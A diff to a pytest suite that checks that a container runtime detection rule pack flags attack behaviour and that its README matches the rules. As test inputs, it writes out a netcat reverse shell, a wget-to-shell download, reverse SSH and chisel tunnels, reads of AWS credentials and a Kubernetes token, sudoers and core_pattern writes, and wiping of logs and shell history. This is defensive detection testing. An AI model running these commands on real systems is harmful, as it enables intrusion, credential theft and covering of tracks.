@@ -7,7 +7,7 @@ import pytest
 
 from conftest import PAUSE, get
 from deeds import Deed, judged
-from programs import ROOT
+from programs import ROOT, run
 
 RULES = os.path.join(ROOT, "deploy", "rules")
 TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
@@ -81,6 +81,7 @@ DEEDS = {
     "Standard input became a network connection": ("/d/deed as-descriptor 0", "/d/deed as-descriptor 7"),
     "Command line of a reverse shell": ("/d/nc -e /bin/sh 10.0.0.1 4444", "/d/nc -z 10.0.0.1 4444"),
     "Scanner of networks": ("/d/nmap -sS 10.0.0.0/8", "/d/nmapped"),
+    "Many connections refused": ("/d/deed call-many 127.0.0.1 20000 60", "/d/deed call-many 127.0.0.1 20000 40"),
     "Tunnel or proxy": ("/d/chisel client 10.0.0.1", "/d/ssh -p 22 10.0.0.1"),
     "Packet socket opened": ("/d/deed socket packet", "/d/deed socket inet"),
     # --- 60-execution.yaml
@@ -109,6 +110,17 @@ DEEDS = {
 
 # Other ways to the same findings.
 FURTHER = [
+    Deed("Shell below a server", "/d/apache2 spawn /bin/sh -c '/bin/sh -c :; :'"),  # the first shell alone
+    Deed("Shell below a server", "/d/nginx spawn /d/worker spawn /bin/sh -c :"),
+    Deed("Download run by a shell", "/bin/sh -c 'true | wget -q -O - http://127.0.0.1:9/x | /bin/sh'"),
+    Deed("Kernel helper path written", "/d/deed open c+ /tmp/host/proc/sys/kernel/core_pattern", ("/bin/mkdir -p /tmp/host/proc/sys/kernel",)),
+    Deed("Service account token read by hand", f"/tmp/fresh open r+ {TOKEN}", ("/d/deed copy /d/deed /tmp/fresh",)),
+    Deed("Private key or cloud credentials read by hand", "/bin/cp /root/.aws/credentials /tmp/c",
+         ("/bin/mkdir -p /root/.aws", "/d/deed open c+ /root/.aws/credentials")),
+    Deed("Account or right to be root written", "/d/deed rename /tmp/sudoers /etc/sudoers", ("/d/deed open c+ /tmp/sudoers",)),
+    Deed("Package manager of a language", "/d/python3 -m pip install something"),
+    Deed("Tunnel or proxy", "/d/ssh -N -R 2222:127.0.0.1:22 10.0.0.1"),
+    Deed("Search for secrets", "/bin/grep -ri password /srv"),
     Deed("Crypto miner", "/d/worker -o stratum+tcp://pool.test:3333"),
     Deed("Log emptied or removed", "/d/deed unlink /var/log/wtmp", ("/bin/mkdir -p /var/log", "/d/deed open c+ /var/log/wtmp")),
     Deed("Shell history emptied or removed", "/d/deed symlink /dev/null /root/.zsh_history"),
@@ -160,6 +172,29 @@ def outcome(runtime, lab, socket_path, tmp_path_factory):
     wanted.update({command: Deed("", command) for command in ORDINARY})
     with judged(wanted.values(), lab, socket_path, runtime, "--rules", RULES, "--rules", str(user)) as (done, findings):
         yield dict(zip(wanted, done)), findings
+
+
+def test_readme_has_the_rules():
+    """Its tables: each rule with its priority and its techniques, in the files' order."""
+    said, there = [], []
+    with open(os.path.join(RULES, "README.md"), encoding="utf-8") as file:
+        said = [tuple(cell.strip() for cell in row.split("|")[1:4]) for row in file if re.match(r"\| [A-Z]", row)]
+    for name in sorted(os.listdir(RULES)):
+        with open(os.path.join(RULES, name), encoding="utf-8") as file:
+            for rule in re.split(r"^- rule: ", file.read(), flags=re.M)[1:] if name.endswith(".yaml") else ():
+                tags = re.search(r"^  tags: \[(.*)\]$", rule, re.M)[1].split(", ")
+                priority = re.search(r"^  priority: (.*)$", rule, re.M)[1].capitalize()
+                there.append((rule.split("\n")[0], priority, ", ".join(tag for tag in tags if re.match("T[0-9]", tag))))
+    assert said == there
+
+
+def test_readme_tunes_as_it_says(tmp_path):
+    """Its examples are rules' files, and they load behind the pack."""
+    with open(os.path.join(RULES, "README.md"), encoding="utf-8") as file:
+        lines = [line[4:] for line in file if line.startswith("    ") and not line.startswith("    taffrail")]
+    (tmp_path / "examples.yaml").write_text("".join(lines), encoding="utf-8")
+    done = run("taffrail", "rules", "check", RULES, str(tmp_path / "examples.yaml"))
+    assert done.returncode == 0 and "0 errors, 0 warnings" in done.stdout and len(lines) > 20, done.stdout + done.stderr
 
 
 def rules_of_the_pack():
